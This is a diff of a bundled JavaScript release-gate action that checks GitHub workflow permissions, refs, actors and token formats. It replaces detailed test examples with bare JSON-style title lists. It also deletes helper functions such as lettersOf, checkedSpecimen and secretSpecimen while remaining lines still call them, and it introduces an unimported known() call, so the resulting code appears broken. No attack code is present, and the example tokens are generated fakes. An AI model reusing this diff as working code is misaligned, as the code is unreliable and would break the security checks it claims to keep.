-                title: "no block",
-                given: () => withJob("undeclared"),
-                says: "The job guard in .github/workflows/release.yml declares no permissions",
-            },
-            { title: "write-all", given: () => withJob("write-all"), says: "may write everything" },
-            {
-                title: "a call of a reusable workflow without a block",
-                given: () => withJob("undeclared", true),
-                says: "declares no permissions",
-            },
-            {
-                title: "a call of a reusable workflow with write-all",
-                given: () => withJob("write-all", true),
-                says: "may write everything",
-            },
-            {
-                title: "a block that does not let this gate read the run",
-                given: () => withJob({ contents: "read" }),
-                says: "lacks actions: read",
-            },
-            { title: "an empty block", given: () => withJob({}), says: "lacks contents: read" },
-            {
-                title: "a right that no release needs",
-                given: () => withJob({ actions: "write", contents: "read" }),
-                says: "may write actions, which no release needs",
-            },
-        ],
-        good: [
-            { title: "exactly what is needed", given: () => goodRelease },
-            { title: "read-all", given: () => withJob("read-all") },
-            {
-                title: "a job that also publishes",
-                given: () => withJob({ actions: "read", contents: "write", "id-token": "write" }),
-            },
-            {
-                title: "a call of a reusable workflow with what its jobs need",
-                given: () => withJob({ contents: "write", "id-token": "write" }, true),
-            },
-        ],
-        unknown: [
-            {
-                title: "a workspace without the repository",
-                given: () => ({ ...goodRelease, jobs: (0,fact/* unknown */.L)("a checkout of the repository") }),
-                says: "a checkout of the repository",
-            },
-        ],
+  "bad": [
+    {
+      "title": "no block"
     },
+    {
+      "title": "write-all"
+    },
+    {
+      "title": "a call of a reusable workflow without a block"
+    },
+    {
+      "title": "a call of a reusable workflow with write-all"
+    },
+    {
+      "title": "a block that does not let this gate read the run"
+    },
+    {
+      "title": "an empty block"
+    },
+    {
+      "title": "a right that no release needs"
+    }
+  ],
+  "good": [
+    {
+      "title": "exactly what is needed"
+    },
+    {
+      "title": "read-all"
+    },
+    {
+      "title": "a job that also publishes"
+    },
+    {
+      "title": "a call of a reusable workflow with what its jobs need"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions/stale-attempt.js
@@ -5275,30 +5107,23 @@ const attemptOf = (number, maxAttempt) => ({
             };
     },
     examples: {
-        bad: [
-            {
-                title: "a second attempt where one is allowed",
-                given: () => attemptOf(2, 1),
-                says: "This is attempt 2, and the policy allows 1",
-            },
-            {
-                title: "a runner that was lied to",
-                given: () => withAttempt({ number: 3 }),
-                says: "The runner says attempt 1, and GitHub's API says 3",
-            },
-        ],
-        good: [
-            { title: "the first attempt", given: () => goodRelease },
-            { title: "the last attempt that is allowed", given: () => attemptOf(2, 2) },
-        ],
-        unknown: [
-            {
-                title: "a run that the token may not read",
-                given: () => ({ ...goodRelease, attempt: (0,fact/* unknown */.L)("actions: read") }),
-                says: "actions: read",
-            },
-        ],
+  "bad": [
+    {
+      "title": "a second attempt where one is allowed"
     },
+    {
+      "title": "a runner that was lied to"
+    }
+  ],
+  "good": [
+    {
+      "title": "the first attempt"
+    },
+    {
+      "title": "the last attempt that is allowed"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions/tag-named-like-branch.js
@@ -5319,22 +5144,17 @@ const attemptOf = (number, maxAttempt) => ({
             yield { message: `The tag refs/tags/${rules.branch} has the name of the release branch` };
     },
     examples: {
-        bad: [
-            {
-                title: "a tag named main",
-                given: () => ({ ...goodRelease, tagNamedLikeBranch: (0,fact/* known */.e)(true) }),
-                says: "The tag refs/tags/main has the name of the release branch",
-            },
-        ],
-        good: [{ title: "no such tag", given: () => goodRelease }],
-        unknown: [
-            {
-                title: "tags that the token may not read",
-                given: () => ({ ...goodRelease, tagNamedLikeBranch: (0,fact/* unknown */.L)("contents: read") }),
-                says: "contents: read",
-            },
-        ],
-    },
+  "bad": [
+    {
+      "title": "a tag named main"
+    }
+  ],
+  "good": [
+    {
+      "title": "no such tag"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions/triggering-actor-may-not-release.js
@@ -5344,7 +5164,7 @@ const attemptOf = (number, maxAttempt) => ({
 
 const triggering_actor_may_not_release_withRole = (name) => ({
     ...goodRelease,
-    triggeringActorRole: (0,fact/* known */.e)({ accountId: 7, name }),
+    triggeringActorRole: known({ accountId: 7, name }),
 });
 const triggering_actor_may_not_release_BOT = { id: 8, login: "robot[bot]", type: "Bot" };
 const triggering_actor_may_not_release_asBot = (bot = triggering_actor_may_not_release_BOT) => ({
@@ -5366,85 +5186,53 @@ const triggering_actor_may_not_release_asBot = (bot = triggering_actor_may_not_r
         rules,
     }),
     examples: {
-        bad: [
-            {
-                title: "somebody with write access",
-                given: () => triggering_actor_may_not_release_withRole("write"),
-                says: "The triggering actor maintainer has the role write; only maintain or admin may release",
-            },
-            {
-                title: "a custom role with a name that looks right",
-                given: () => triggering_actor_may_not_release_withRole("maintainer"),
-                says: "has the role maintainer",
-            },
-            {
-                title: "a role of another case",
-                given: () => triggering_actor_may_not_release_withRole("Admin"),
-                says: "has the role Admin",
-            },
-            {
-                title: "a bot",
-                given: () => triggering_actor_may_not_release_asBot(),
-                says: "The triggering actor robot[bot] (id 8) is a bot",
-            },
-            {
-                title: "a bot whose login does not say so",
-                given: () => triggering_actor_may_not_release_asBot({ ...triggering_actor_may_not_release_BOT, login: "Copilot" }),
-                says: "Copilot (id 8) is a bot",
-            },
-            {
-                title: "a bot that is listed as a user",
-                given: () => triggering_actor_may_not_release_asBot({ ...triggering_actor_may_not_release_BOT, type: "User" }),
-                says: "robot[bot] (id 8) is a bot",
-            },
-            {
-                title: "a login that somebody else has taken",
-                given: () => ({
-                    ...goodRelease,
-                    triggeringActorRole: (0,fact/* known */.e)({ accountId: 9, name: "admin" }),
-                }),
-                says: "belongs to another account by now",
-            },
-            {
-                title: "a runner that was lied to",
-                given: () => withRun({ triggeringActor: "somebody" }),
-                says: "and GitHub's API says maintainer (id 7)",
-            },
-            {
-                title: "a policy that lists no role",
-                given: () => withRules({ roles: [] }),
-                says: "only an account listed in the policy may release",
-            },
-        ],
-        good: [
-            { title: "a maintainer", given: () => goodRelease },
-            { title: "an administrator", given: () => triggering_actor_may_not_release_withRole("admin") },
-            {
-                title: "a login in another case, which is the same account",
-                given: () => withRun({ triggeringActor: "Maintainer" }),
-            },
-            {
-                title: "a custom role that the policy lists",
-                given: () => ({ ...triggering_actor_may_not_release_withRole("releaser"), rules: withRules({ roles: ["releaser"] }).rules }),
-            },
-            {
-                title: "a bot whose number the policy lists",
-                given: () => ({ ...triggering_actor_may_not_release_asBot(), rules: withRules({ actorIds: [8] }).rules }),
-            },
-        ],
-        unknown: [
-            {
-                title: "a run that the token may not read",
-                given: () => ({ ...goodRelease, attempt: (0,fact/* unknown */.L)("actions: read") }),
-                says: "actions: read",
-            },
-            {
-                title: "a role that the token may not read",
-                given: () => ({ ...goodRelease, triggeringActorRole: (0,fact/* unknown */.L)("metadata: read") }),
-                says: "metadata: read",
-            },
-        ],
+  "bad": [
+    {
+      "title": "somebody with write access"
     },
+    {
+      "title": "a custom role with a name that looks right"
+    },
+    {
+      "title": "a role of another case"
+    },
+    {
+      "title": "a bot"
+    },
+    {
+      "title": "a bot whose login does not say so"
+    },
+    {
+      "title": "a bot that is listed as a user"
+    },
+    {
+      "title": "a login that somebody else has taken"
+    },
+    {
+      "title": "a runner that was lied to"
+    },
+    {
+      "title": "a policy that lists no role"
+    }
+  ],
+  "good": [
+    {
+      "title": "a maintainer"
+    },
+    {
+      "title": "an administrator"
+    },
+    {
+      "title": "a login in another case, which is the same account"
+    },
+    {
+      "title": "a custom role that the policy lists"
+    },
+    {
+      "title": "a bot whose number the policy lists"
+    }
+  ]
+},
 }));
 
 // EXTERNAL MODULE: ./.build/out/domain/permission/workflow-ref.js
@@ -5492,52 +5280,32 @@ function* inspectRef({ run, rules, attempt }) {
             };
     },
     examples: {
-        bad: [
-            {
-                title: "a workflow of another branch",
-                given: () => withWorkflow("org/project/.github/workflows/release.yml@refs/heads/feature"),
-                says: "and only refs/heads/main may release",
-            },
-            {
-                title: "a workflow of a tag",
-                given: () => withWorkflow("org/project/.github/workflows/release.yml@refs/tags/refs/heads/main"),
-                says: "and only refs/heads/main may release",
-            },
-            {
-                title: "a workflow of another repository",
-                given: () => withWorkflow("evil/project/.github/workflows/release.yml@refs/heads/main"),
-                says: "which is not in org/project",
-            },
-            {
-                title: "something that is no workflow",
-                given: () => withWorkflow("org/project/release.yml@refs/heads/main"),
-                says: "is not the address of a workflow",
-            },
-            {
-                title: "a workflow of another commit",
-                given: () => withRun({ workflowSha: "c".repeat(40) }),
-                says: `of commit ${"c".repeat(40)}`,
-            },
-            {
-                title: "a runner that was lied to",
-                given: () => withAttempt({ workflowPath: ".github/workflows/other.yml" }),
-                says: "and GitHub's API says .github/workflows/other.yml",
-            },
-        ],
-        good: [{ title: "the workflow of the release branch", given: () => goodRelease }],
-        unknown: [
-            {
-                title: "a runner that does not name the workflow's commit",
-                given: () => withRun({ workflowSha: "" }),
-                says: "GITHUB_WORKFLOW_SHA",
-            },
-            {
-                title: "a run that the token may not read",
-                given: () => ({ ...goodRelease, attempt: (0,fact/* unknown */.L)("actions: read") }),
-                says: "actions: read",
-            },
-        ],
+  "bad": [
+    {
+      "title": "a workflow of another branch"
     },
+    {
+      "title": "a workflow of a tag"
+    },
+    {
+      "title": "a workflow of another repository"
+    },
+    {
+      "title": "something that is no workflow"
+    },
+    {
+      "title": "a workflow of another commit"
+    },
+    {
+      "title": "a runner that was lied to"
+    }
+  ],
+  "good": [
+    {
+      "title": "the workflow of the release branch"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions/wrong-event.js
@@ -5566,28 +5334,23 @@ const EVENT = "workflow_dispatch";
             };
     },
     examples: {
-        bad: [
-            { title: "a push", given: () => withRun({ eventName: "push" }), says: "started by push" },
-            {
-                title: "a schedule",
-                given: () => withRun({ eventName: "schedule" }),
-                says: "only workflow_dispatch may release",
-            },
-            {
-                title: "a runner that was lied to about the event",
-                given: () => withAttempt({ event: "pull_request_target" }),
-                says: "GitHub's API says that pull_request_target started the run",
-            },
-        ],
-        good: [{ title: "the button", given: () => goodRelease }],
-        unknown: [
-            {
-                title: "a run that the token may not read",
-                given: () => ({ ...goodRelease, attempt: (0,fact/* unknown */.L)("actions: read") }),
-                says: "actions: read",
-            },
-        ],
+  "bad": [
+    {
+      "title": "a push"
     },
+    {
+      "title": "a schedule"
+    },
+    {
+      "title": "a runner that was lied to about the event"
+    }
+  ],
+  "good": [
+    {
+      "title": "the button"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions/wrong-ref.js
@@ -5622,67 +5385,41 @@ const EVENT = "workflow_dispatch";
             };
     },
     examples: {
-        bad: [
-            {
-                title: "another branch",
-                given: () => withRun({ ref: "refs/heads/feature" }),
-                says: "on refs/heads/feature, and only refs/heads/main may release",
-            },
-            {
-                title: "a tag named like the branch",
-                given: () => withRun({ ref: "refs/tags/main", refType: "tag" }),
-                says: "on refs/tags/main",
-            },
-            {
-                title: "a ref that only claims to be a tag",
-                given: () => withRun({ refType: "tag" }),
-                says: "is a tag, not a branch",
-            },
-            {
-                title: "a branch of another case",
-                given: () => withRun({ ref: "refs/heads/Main" }),
-                says: "refs/heads/Main",
-            },
-            {
-                title: "a branch with an invisible letter",
-                given: () => withRun({ ref: "refs/heads/main\u{200B}" }),
-                says: String.raw `refs/heads/main\u{200b}`,
-            },
-            {
-                title: "a branch below the release branch",
-                given: () => withRun({ ref: "refs/heads/main/x" }),
-                says: "refs/heads/main/x",
-            },
-            {
-                title: "a runner that was lied to about the branch",
-                given: () => withAttempt({ headBranch: "feature" }),
-                says: "GitHub's API says that the run is on feature",
-            },
-            {
-                title: "a runner that was lied to about the commit",
-                given: () => withAttempt({ headSha: "0".repeat(40) }),
-                says: "and GitHub's API says 000",
-            },
-        ],
-        good: [
-            { title: "a run on main", given: () => goodRelease },
-            {
-                title: "a run on another branch that the policy names",
-                given: () => ({
-                    ...withRules({ branch: "release" }),
-                    run: { ...goodRelease.run, ref: "refs/heads/release" },
-                    attempt: withAttempt({ headBranch: "release" }).attempt,
-                }),
-            },
-        ],
-        unknown: [
-            {
-                title: "a run that the token may not read",
-                given: () => ({ ...goodRelease, attempt: (0,fact/* unknown */.L)("actions: read") }),
-                says: "actions: read",
-            },
-        ],
+  "bad": [
+    {
+      "title": "another branch"
     },
+    {
+      "title": "a tag named like the branch"
+    },
+    {
+      "title": "a ref that only claims to be a tag"
+    },
+    {
+      "title": "a branch of another case"
+    },
+    {
+      "title": "a branch with an invisible letter"
+    },
+    {
+      "title": "a branch below the release branch"
+    },
+    {
+      "title": "a runner that was lied to about the branch"
+    },
+    {
+      "title": "a runner that was lied to about the commit"
+    }
+  ],
+  "good": [
+    {
+      "title": "a run on main"
+    },
+    {
+      "title": "a run on another branch that the policy names"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions-registry.js
@@ -5723,7 +5460,7 @@ const permissionsChecks = [
 
 /***/ }),
 
-/***/ 983:
+/***/ 2695:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -5732,93 +5469,8 @@ __nccwpck_require__.d(__webpack_exports__, {
   d: () => (/* binding */ secretsChecks)
 });
 
-// EXTERNAL MODULE: ./.build/out/domain/token/secret-facts.js + 6 modules
-var secret_facts = __nccwpck_require__(7682);
-// EXTERNAL MODULE: external "node:crypto"
-var external_node_crypto_ = __nccwpck_require__(7598);
-// EXTERNAL MODULE: ./.build/out/domain/policy/parse-policy.js
-var parse_policy = __nccwpck_require__(5785);
-// EXTERNAL MODULE: ./.build/out/domain/policy/policy.js + 1 modules
-var policy = __nccwpck_require__(9227);
-// EXTERNAL MODULE: ./.build/out/domain/registry/public-hosts.js
-var public_hosts = __nccwpck_require__(9117);
-// EXTERNAL MODULE: ./.build/out/domain/token/base32.js
-var base32 = __nccwpck_require__(8394);
-// EXTERNAL MODULE: ./.build/out/domain/token/base62-checksum.js + 1 modules
-var base62_checksum = __nccwpck_require__(7986);
-;// CONCATENATED MODULE: ./.build/out/domain/token/specimen.js
-
-
-
-
-
-
-
-/**
- * Tokens that are well-formed and open nothing, made when they are asked for, so that none ever
- * stands in a file where a scanner of somebody else finds it.
- */
-const LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
-/** Letters and digits that look random and are the same for the same seed. */
-function lettersOf(seed, length) {
-    let text = "";
-    for (let block = 0; text.length < length; block += 1) {
-        const bytes = (0,external_node_crypto_.createHash)("sha512").update(`${seed}/${block}`).digest();
-        text += Array.from(bytes, (byte) => LETTERS.charAt(byte % LETTERS.length)).join("");
-    }
-    return text.slice(0, length);
-}
-/** A prefix, random letters and their checksum, as npm and GitHub write tokens. */
-function checkedSpecimen(prefix, seed, random = 30) {
-    const body = lettersOf(seed, random);
-    return `${prefix}${body}${(0,base62_checksum/* base62Checksum */.J)(body)}`;
-}
-function fineGrainedSpecimen(seed) {
-    const head = `github_pat_11${lettersOf(seed, 20)}_${lettersOf(`${seed}/body`, 43)}`;
-    const digest = (0,external_node_crypto_.createHash)("sha256").update(head).digest();
-    return head + (0,base32/* base32 */.R)(digest).slice(0, 8) + lettersOf(`${seed}/tail`, 8);
-}
-const segment = (value) => Buffer.from(JSON.stringify(value)).toString("base64url");
-const jwtSpecimen = (claims) => [segment({ alg: "RS256", typ: "JWT" }), segment(claims), lettersOf("signature", 86)].join(".");
-const field = (type, text) => {
-    const bytes = Buffer.from(text);
-    const length = bytes.length < 0x80 ? [bytes.length] : [(bytes.length & 0x7f) | 0x80, bytes.length >> 7];
-    return Buffer.concat([Buffer.from([type, ...length]), bytes]);
-};
-const END = Buffer.from([0]);
-/** A macaroon with these caveats. */
-function pypiSpecimen(caveats, location = public_hosts/* PUBLIC_HOSTS */.O.pypi) {
-    const bytes = Buffer.concat([
-        Buffer.from([2]),
-        field(1, location),
-        field(2, "00000000-0000-4000-8000-000000000000"),
-        END,
-        ...caveats.flatMap((caveat) => [field(2, JSON.stringify(caveat)), END]),
-        END,
-        field(6, (0,external_node_crypto_.createHash)("sha256").update(JSON.stringify(caveats)).digest()),
-    ]);
-    return `pypi-${bytes.toString("base64url")}`;
-}
-/** Noon of 2027-01-15 in UTC, the "now" of every example. */
-const SPECIMEN_NOW = 1_800_014_400_000;
-/** The facts of one required secret that holds `value`. */
-function secretSpecimen(value, requirement = {}, targets = [{ registry: "github-release" }]) {
-    const name = requirement.name ?? "RELEASE_TOKEN";
-    const secret = { kind: "npm", ...requirement, name };
-    const policy = { ...(0,parse_policy/* defaultPolicy */.G)(), secrets: [secret], targets: [...targets] };
-    const [facts] = (0,secret_facts/* gatherSecrets */.bq)(policy, { [name]: value }, SPECIMEN_NOW);
-    if (facts === undefined)
-        throw new TypeError("one requirement gives one secret");
-    return facts;
-}
-/** A target with every default filled in. */
-function targetSpecimen(target) {
-    const [parsed] = policy/* policySchema */.w.parse({ version: 1, targets: [target] }).targets;
-    if (parsed === undefined)
-        throw new TypeError("one target gives one target");
-    return parsed;
-}
-
+// EXTERNAL MODULE: ./.build/out/domain/token/secret-facts.js + 9 modules
+var secret_facts = __nccwpck_require__(9662);
 ;// CONCATENATED MODULE: ./.build/out/domain/token/token.js
 /** Kinds of credential that tell what they are. */
 const TOKEN_KINDS = (/* unused pure expression or super */ null && ([
@@ -5835,15 +5487,15 @@ const TOKEN_KINDS = (/* unused pure expression or super */ null && ([
 ]));
 /** What people call each kind, with its public prefix. */
 const TOKEN_TITLES = {
-    npm: "an npm token (npm_…)",
-    pypi: "a PyPI token (pypi-…)",
-    testpypi: "a TestPyPI token (pypi-…)",
-    "github-classic": "a classic GitHub token (ghp_…)",
-    "github-oauth": "a GitHub OAuth token (gho_…)",
-    "github-user": "a GitHub App's user token (ghu_…)",
-    "github-refresh": "a GitHub refresh token (ghr_…)",
-    "github-fine-grained": "a fine-grained GitHub token (github_pat_…)",
-    "github-installation": "a GitHub installation token (ghs_…)",
+    npm: "an npm token (npm_\u2026)",
+    pypi: "a PyPI token (pypi-\u2026)",
+    testpypi: "a TestPyPI token (pypi-\u2026)",
+    "github-classic": "a classic GitHub token (ghp_\u2026)",
+    "github-oauth": "a GitHub OAuth token (gho_\u2026)",
+    "github-user": "a GitHub App's user token (ghu_\u2026)",
+    "github-refresh": "a GitHub refresh token (ghr_\u2026)",
+    "github-fine-grained": "a fine-grained GitHub token (github_pat_\u2026)",
+    "github-installation": "a GitHub installation token (ghs_\u2026)",
     jwt: "a JSON Web Token",
 };
 
@@ -5878,36 +5530,32 @@ const fine = (value) => secretSpecimen(value, { kind: "github-fine-grained" });
             };
     },
     examples: {
-        bad: [
-            {
-                title: "an npm token with a wrong character",
-                given: () => secretSpecimen(`npm_${lettersOf("wrong npm", 36)}`),
-                says: "looks like an npm token (npm_…), but its checksum does not fit",
-            },
-            {
-                title: "a classic GitHub token with a wrong character",
-                given: () => secretSpecimen(`ghp_${lettersOf("wrong classic", 36)}`, { kind: "github-classic" }),
-                says: "looks like a classic GitHub token (ghp_…), but its checksum does not fit",
-            },
-            {
-                title: "a fine-grained GitHub token with a wrong character",
-                given: () => fine(`github_pat_11${lettersOf("a", 20)}_${lettersOf("b", 59)}`),
-                says: "looks like a fine-grained GitHub token",
-            },
-        ],
-        good: [
-            { title: "an npm token", given: () => secretSpecimen(checkedSpecimen("npm_", "right")) },
-            {
-                title: "a refresh token, whose random part is longer",
-                given: () => secretSpecimen(checkedSpecimen("ghr_", "refresh", 70), { kind: "other" }),
-            },
-            { title: "a fine-grained token", given: () => fine(fineGrainedSpecimen("right")) },
-            {
-                title: "a token without a checksum",
-                given: () => secretSpecimen(lettersOf("password", 32), { kind: "other" }),
-            },
-        ],
+  "bad": [
+    {
+      "title": "an npm token with a wrong character"
     },
+    {
+      "title": "a classic GitHub token with a wrong character"
+    },
+    {
+      "title": "a fine-grained GitHub token with a wrong character"
+    }
+  ],
+  "good": [
+    {
+      "title": "an npm token"
+    },
+    {
+      "title": "a refresh token, whose random part is longer"
+    },
+    {
+      "title": "a fine-grained token"
+    },
+    {
+      "title": "a token without a checksum"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/secrets/dead-token-format.js
@@ -5938,36 +5586,26 @@ const uuid = () => [hex(8), hex(4), hex(4), hex(4), hex(12)].join("-");
             };
     },
     examples: {
-        bad: [
-            {
-                title: "an npm token in the form of a UUID",
-                given: () => secretSpecimen(uuid()),
-                says: "npm revoked every token of the old UUID form",
-            },
-            {
-                title: "a GitHub token of forty hex digits",
-                given: () => secretSpecimen(hex(40), { kind: "github-classic" }),
-                says: "GitHub replaced tokens without a prefix in 2021",
-            },
-            {
-                title: "a PyPI token with the first kind of limits",
-                given: () => secretSpecimen(pypiSpecimen([{ version: 1, permissions: { projects: ["mine"] } }]), {
-                    kind: "pypi",
-                }),
-                says: "stopped issuing years ago",
-            },
-        ],
-        good: [
-            {
-                title: "an npm token of today",
-                given: () => secretSpecimen(checkedSpecimen("npm_", "alive")),
-            },
-            {
-                title: "a UUID where any credential may stand",
-                given: () => secretSpecimen(uuid(), { kind: "other" }),
-            },
-        ],
+  "bad": [
+    {
+      "title": "an npm token in the form of a UUID"
     },
+    {
+      "title": "a GitHub token of forty hex digits"
+    },
+    {
+      "title": "a PyPI token with the first kind of limits"
+    }
+  ],
+  "good": [
+    {
+      "title": "an npm token of today"
+    },
+    {
+      "title": "a UUID where any credential may stand"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/secrets/duplicate-secret-value.js
@@ -5994,15 +5632,17 @@ const withTwins = (...twins) => ({
             yield { message: `${secret.name} has the same value as ${secret.twins.join(" and ")}` };
     },
     examples: {
-        bad: [
-            {
-                title: "a token stored under two names",
-                given: () => withTwins("NPM_TOKEN"),
-                says: "has the same value as NPM_TOKEN",
-            },
-        ],
-        good: [{ title: "a value that stands once", given: () => withTwins() }],
-    },
+  "bad": [
+    {
+      "title": "a token stored under two names"
+    }
+  ],
+  "good": [
+    {
+      "title": "a value that stands once"
+    }
+  ]
+},
 }));
 
 // EXTERNAL MODULE: ./.build/out/domain/time/day-of.js
@@ -6048,48 +5688,35 @@ const jwt = (claims) => secretSpecimen(jwtSpecimen(claims), { kind: "jwt" });
             };
     },
     examples: {
-        bad: [
-            {
-                title: "a PyPI token with a limit that has passed",
-                given: () => secretSpecimen(pypiSpecimen([
-                    [3, "user"],
-                    [0, at(-1), at(-30)],
-                ]), { kind: "pypi" }),
-                says: "expired on 2027-01-14",
-            },
-            {
-                title: "a JWT of yesterday",
-                given: () => jwt({ exp: at(-1) }),
-                says: "expired on 2027-01-14",
-            },
-            {
-                title: "a JWT that ends at this very second",
-                given: () => jwt({ exp: at(0) }),
-                says: "expired on",
-            },
-            {
-                title: "a token with thirteen days left",
-                given: () => jwt({ exp: at(13) }),
-                says: "expires on 2027-01-28, in less than 14 days",
-            },
-            {
-                title: "a token that begins tomorrow",
-                given: () => jwt({ nbf: at(1) }),
-                says: "is not valid before 2027-01-16",
-            },
-        ],
-        good: [
-            {
-                title: "a token that begins now and has fourteen days left",
-                given: () => jwt({ exp: at(14), nbf: at(0) }),
-            },
-            { title: "a token with fifteen days left", given: () => jwt({ exp: at(15), nbf: at(-1) }) },
-            {
-                title: "an npm token, which does not tell",
-                given: () => secretSpecimen(checkedSpecimen("npm_", "expiry")),
-            },
-        ],
+  "bad": [
+    {
+      "title": "a PyPI token with a limit that has passed"
     },
+    {
+      "title": "a JWT of yesterday"
+    },
+    {
+      "title": "a JWT that ends at this very second"
+    },
+    {
+      "title": "a token with thirteen days left"
+    },
+    {
+      "title": "a token that begins tomorrow"
+    }
+  ],
+  "good": [
+    {
+      "title": "a token that begins now and has fourteen days left"
+    },
+    {
+      "title": "a token with fifteen days left"
+    },
+    {
+      "title": "an npm token, which does not tell"
+    }
+  ]
+},
 }));
 
 // EXTERNAL MODULE: ./.build/out/domain/token/clean-secret.js
@@ -6176,90 +5803,71 @@ const pem = (lineBreak) => ["-----BEGIN PRIVATE KEY-----", lettersOf("pem", 64),
             };
     },
     examples: {
-        bad: [
-            {
-                title: "a line break at the end of a token",
-                given: () => secretSpecimen(`${token()}\n`),
-                says: "blanks or line breaks around it",
-            },
-            {
-                title: "a file with Windows line breaks",
-                given: () => other(pem("\r\n")),
-                says: "carriage return",
-            },
-            {
-                title: "a byte order mark",
-                given: () => secretSpecimen(`\u{FEFF}${token()}`),
-                says: "byte order mark",
-            },
-            { title: "quotes", given: () => secretSpecimen(`"${token()}"`), says: "stands in quotes" },
-            {
-                title: "the scheme of a header",
-                given: () => secretSpecimen(`Bearer ${token()}`),
-                says: "begins with the scheme of a header",
-            },
-            {
-                title: "a line of an .env file",
-                given: () => other(`RELEASE_TOKEN=${token()}`),
-                says: "begins with a variable's name",
-            },
-            {
-                title: "an expression that nobody evaluated",
-                given: () => secretSpecimen("${{ secrets.NPM_TOKEN }}"),
-                says: "an expression was stored",
-            },
-            {
-                title: "a masked text from a log",
-                given: () => secretSpecimen("npm_***"),
-                says: "copied from a log",
-            },
-            {
-                title: "a placeholder",
-                given: () => secretSpecimen("change-me", { kind: "other" }),
-                says: "is a placeholder",
-            },
-            {
-                title: "a token of one character",
-                given: () => secretSpecimen(`ghp_${"x".repeat(36)}`, { kind: "github-classic" }),
-                says: "is a placeholder",
-            },
-            {
-                title: "a text too short to be a secret",
-                given: () => other("hunter2"),
-                says: "fewer than 8 characters",
-            },
-            {
-                title: "a key with its line breaks written out",
-                given: () => other(pem(String.raw `\n`)),
-                says: "written out where line breaks belong",
-            },
-            {
-                title: "a token that was cut by a line break",
-                given: () => secretSpecimen(`${token().slice(0, 20)}\n${token().slice(20)}`),
-                says: "blanks or line breaks inside",
-            },
-            {
-                title: "a token that was cut off",
-                given: () => secretSpecimen(token().slice(0, 30)),
-                says: "looks like an npm token (npm_…), but at least 36",
-            },
-            {
-                title: "JSON whose brackets stand on lines of their own",
-                given: () => other(`{\n  "key": "${lettersOf("json", 20)}"\n}`),
-                says: "cannot mask well",
-            },
-        ],
-        good: [
-            { title: "a bare token", given: () => secretSpecimen(token()) },
-            { title: "a key file, which ends with a line break", given: () => other(`${pem("\n")}\n`) },
-            {
-                title: "a service account's JSON on one line, with line breaks written out as JSON asks",
-                given: () => other(JSON.stringify({ private_key: pem("\n") })),
-            },
-            { title: "no secret at all, of which another check speaks", given: () => secretSpecimen("") },
-            { title: "a passphrase with blanks", given: () => other("correct horse battery staple") },
-        ],
+  "bad": [
+    {
+      "title": "a line break at the end of a token"
     },
+    {
+      "title": "a file with Windows line breaks"
+    },
+    {
+      "title": "a byte order mark"
+    },
+    {
+      "title": "quotes"
+    },
+    {
+      "title": "the scheme of a header"
+    },
+    {
+      "title": "a line of an .env file"
+    },
+    {
+      "title": "an expression that nobody evaluated"
+    },
+    {
+      "title": "a masked text from a log"
+    },
+    {
+      "title": "a placeholder"
+    },
+    {
+      "title": "a token of one character"
+    },
+    {
+      "title": "a text too short to be a secret"
+    },
+    {
+      "title": "a key with its line breaks written out"
+    },
+    {
+      "title": "a token that was cut by a line break"
+    },
+    {
+      "title": "a token that was cut off"
+    },
+    {
+      "title": "JSON whose brackets stand on lines of their own"
+    }
+  ],
+  "good": [
+    {
+      "title": "a bare token"
+    },
+    {
+      "title": "a key file, which ends with a line break"
+    },
+    {
+      "title": "a service account's JSON on one line, with line breaks written out as JSON asks"
+    },
+    {
+      "title": "no secret at all, of which another check speaks"
+    },
+    {
+      "title": "a passphrase with blanks"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/secrets/missing-secret.js
@@ -6280,30 +5888,23 @@ const WHERE = "an absent secret reads as an empty text, and so does an environme
             yield { message: `${name} is empty: ${WHERE}` };
     },
     examples: {
-        bad: [
-            {
-                title: "a secret that the step does not hand over",
-                given: () => secretSpecimen(undefined),
-                says: "is not in the environment of this step",
-            },
-            {
-                title: "a secret that does not exist, which GitHub reads as an empty text",
-                given: () => secretSpecimen(""),
-                says: "is empty",
-            },
-            {
-                title: "a secret of blanks and an empty pair of quotes",
-                given: () => secretSpecimen(' "" \n'),
-                says: "is empty",
-            },
-        ],
-        good: [
-            {
-                title: "a secret with a value",
-                given: () => secretSpecimen(checkedSpecimen("npm_", "present")),
-            },
-        ],
+  "bad": [
+    {
+      "title": "a secret that the step does not hand over"
     },
+    {
+      "title": "a secret that does not exist, which GitHub reads as an empty text"
+    },
+    {
+      "title": "a secret of blanks and an empty pair of quotes"
+    }
+  ],
+  "good": [
+    {
+      "title": "a secret with a value"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/secrets/needless-secret.js
@@ -6324,23 +5925,26 @@ const npm = (...trust) => secretSpecimen(checkedSpecimen("npm_", "needless"), { 
             };
     },
     examples: {
-        bad: [
-            {
-                title: "an npm token beside trusted publishing",
-                given: () => npm(true),
-                says: "is not needed: npm is published to through OIDC",
-            },
-            { title: "an npm token and no list of targets", given: () => npm(), says: "is not needed" },
-        ],
-        good: [
-            { title: "a target without trusted publishing", given: () => npm(false) },
-            { title: "two targets of which one needs the token", given: () => npm(true, false) },
-            {
-                title: "a secret for something that is no target",
-                given: () => secretSpecimen(checkedSpecimen("ghp_", "x"), { kind: "github-classic" }, []),
-            },
-        ],
+  "bad": [
+    {
+      "title": "an npm token beside trusted publishing"
     },
+    {
+      "title": "an npm token and no list of targets"
+    }
+  ],
+  "good": [
+    {
+      "title": "a target without trusted publishing"
+    },
+    {
+      "title": "two targets of which one needs the token"
+    },
+    {
+      "title": "a secret for something that is no target"
+    }
+  ]
+},
 }));
 
